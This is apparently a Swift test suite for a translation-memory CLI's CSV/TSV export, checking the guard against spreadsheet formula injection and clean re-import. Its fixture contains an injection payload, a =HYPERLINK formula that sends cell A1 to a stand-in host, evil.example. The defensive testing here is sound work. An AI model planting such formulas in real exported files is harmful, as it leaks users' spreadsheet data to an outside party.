import Foundation
import Testing

/// Review 30 Nov, m19, through the command line: `export --format csv|tsv` guards formulas,
/// `--no-formula-guard` turns it off, and a guarded export imports back as it was.
@Suite("verbale export: spreadsheet formula guard")
struct FormulaGuardCLITests {
    @Test("The review's repro: =HYPERLINK and =1+1 are exported with an apostrophe; re-importing gives the texts back")
    func reviewRepro() throws {
        let folder = try temporaryFolder()
        let input = folder.appendingPathComponent("inj.tsv")
        try Data("en\tkm\n=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")\t=1+1\n- the first point\t- ចំណុច\u{200B}ទី\u{200B}មួយ\n".utf8).write(to: input)
        let memory = folder.appendingPathComponent("inj.sqlite").path
        let imported = try CLI.run(["import", "--memory", memory, input.path])
        #expect(imported.status == 0, "\(imported.stderr)")
        for format in ["csv", "tsv"] {
            let guarded = try CLI.run(["export", "--memory", memory, "--format", format, "-"])
            #expect(guarded.status == 0, "\(guarded.stderr)")
            #expect(guarded.stdout.contains("'=1+1") && guarded.stdout.contains("'=HYPERLINK("), "\(guarded.stdout)")
            #expect(guarded.stdout.contains("'- ចំណុច\u{200B}ទី\u{200B}មួយ"))
            let bare = try CLI.run(["export", "--memory", memory, "--format", format, "--no-formula-guard", "-"])
            #expect(bare.status == 0, "\(bare.stderr)")
            #expect(!bare.stdout.contains("'=") && bare.stdout.contains("=1+1"))

            let file = folder.appendingPathComponent("guarded.\(format)")
            try Data(guarded.stdout.utf8).write(to: file)
            let again = folder.appendingPathComponent("again-\(format).sqlite").path
            #expect(try CLI.run(["import", "--memory", again, file.path]).status == 0)
            let before = try CLI.run(["export", "--memory", memory, "--format", "tsv", "--no-formula-guard", "-"]).stdout
            let after = try CLI.run(["export", "--memory", again, "--format", "tsv", "--no-formula-guard", "-"]).stdout
            let texts = { (table: String) in table.split(separator: "\n").map { $0.split(separator: "\t", omittingEmptySubsequences: false).prefix(2) } }
            #expect(texts(after) == texts(before))
        }
    }

    @Test("export --help documents --no-formula-guard")
    func help() throws {
        let help = try CLI.run(["export", "--help"])
        #expect(help.stdout.contains("--no-formula-guard"))
        #expect(help.stdout.contains("leading apostrophe"))
    }
}
